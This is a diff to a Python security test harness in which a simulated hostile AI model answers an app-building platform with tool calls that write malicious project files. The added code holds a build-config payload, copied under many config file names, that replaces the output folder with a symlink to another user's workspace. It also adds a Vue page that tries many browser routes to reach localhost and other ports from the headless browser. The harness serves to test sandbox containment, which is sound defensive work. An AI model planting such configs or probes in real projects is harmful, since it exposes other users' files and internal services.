@@ -74,11 +74,84 @@ def attack_files(markers: Path, leak: str | None) -> dict[str, str]:
     }
 
 
+# What a config file of the app's would do, had it run in the build box: replace dist/ by a
+# link to another user's workspace once Vite is done (the attack that once published a
+# victim's files on the attacker's site), say so in the log, and leave a marker in the output.
+CONFIG_ATTACK = """
+const fs = require('fs'), path = require('path');
+console.log('ZC-MARKER-CONFIG-RAN');
+process.on('exit', () => {
+  try { fs.mkdirSync('dist', {recursive: true}); fs.writeFileSync('dist/zc-marker.txt', 'ran') }
+  catch (e) {}
+  try { fs.rmSync('dist', {recursive: true, force: true}); fs.symlinkSync(VICTIM, 'dist') }
+  catch (e) {}
+});
+module.exports = { plugins: [] };
+"""
+CONFIG_NAMES = (
+    "postcss.config.js",
+    "postcss.config.cjs",
+    "postcss.config.mjs",
+    ".postcssrc.js",
+    "tailwind.config.js",
+    "babel.config.js",
+    "src/postcss.config.cjs",
+)
+
+
+def config_attack(victim: Path) -> dict[str, str]:
+    """App-written build configuration: code under every name a tool may load, and data
+    files that would change the output if read."""
+    code = CONFIG_ATTACK.replace("VICTIM", json.dumps(str(victim)))
+    files = {name: code for name in CONFIG_NAMES}
+    files[".postcssrc.json"] = json.dumps({"plugins": {"./src/postcss.config.cjs": {}}})
+    files[".env"] = "VITE_ZC_MARKER=ZC-MARKER-ENV-READ\n"
+    files["tsconfig.json"] = json.dumps({"extends": "./zc-missing-base.json"})
+    files[".browserslistrc"] = "not a valid query ZC-MARKER\n"
+    return files
+
+
+# What the page tries once loaded in the platform's headless browser (the runtime check and
+# covers): connections to another port on its own host name and on 127.0.0.1, by every way a
+# page has, routing-visible or not.
+REACH = """<template><main><h1>Reaching out</h1></main></template>
+<script setup>
+const port = PORT
+const targets = [location.protocol + '//' + location.hostname + ':' + port,
+                 'http://127.0.0.1:' + port]
+const add = (tag, attrs) => { const e = document.createElement(tag);
+  Object.assign(e, attrs); document.head.appendChild(e); return e }
+const rules = add('script', { type: 'speculationrules' })
+rules.textContent = JSON.stringify({
+  prefetch: [{ source: 'list', urls: targets.map(t => t + '/prefetch') }],
+  prerender: [{ source: 'list', urls: targets.map(t => t + '/prerender') }] })
+for (const t of targets) {
+  for (const rel of ['prefetch', 'preconnect', 'prerender', 'dns-prefetch', 'preload'])
+    add('link', { rel, href: t + '/' + rel, as: 'fetch' })
+  try { fetch(t + '/fetch', { mode: 'no-cors' }).catch(() => {}) } catch (e) {}
+  try { new WebSocket(t.replace('http', 'ws') + '/ws') } catch (e) {}
+  try { new EventSource(t + '/sse') } catch (e) {}
+  try { new WebTransport(t.replace('http', 'https') + '/wt') } catch (e) {}
+  try { window.open(t + '/open') } catch (e) {}
+  try { navigator.sendBeacon(t + '/beacon', 'x') } catch (e) {}
+  const img = new Image(); img.src = t + '/img'
+  const frame = add('iframe', {}); frame.srcdoc =
+    '<meta http-equiv="refresh" content="0;url=' + t + '/refresh">'
+  const form = document.createElement('form'); form.method = 'post';
+  form.action = t + '/form'; form.target = 'zc-' + Math.random(); document.body.appendChild(form)
+  try { form.submit() } catch (e) {}
+}
+try { navigator.serviceWorker.register('/sw.js').catch(() => {}) } catch (e) {}
+</script>
+"""
+
+
 class HostileModel:
     def __init__(self, markers: Path) -> None:
         self.markers = markers
         self.requests: list[dict[str, Any]] = []
         self.leak: str | None = None  # the import the next turn's App.vue makes
+        self.extra: dict[str, str] = {}  # more files the next Vue turn writes
         model = self
 
         class Handler(BaseHTTPRequestHandler):
@@ -117,7 +190,7 @@ class HostileModel:
         acted = any(m["role"] == "tool" for m in messages[last_user:])
         if "zerocode:prompt=vue_project" not in system or acted:
             return _text("Done: I changed the files you asked for.")
-        files = attack_files(self.markers, self.leak)
+        files = {**attack_files(self.markers, self.leak), **self.extra}
         return _calls([("write_file", {"path": p, "content": c}) for p, c in files.items()])
 
 
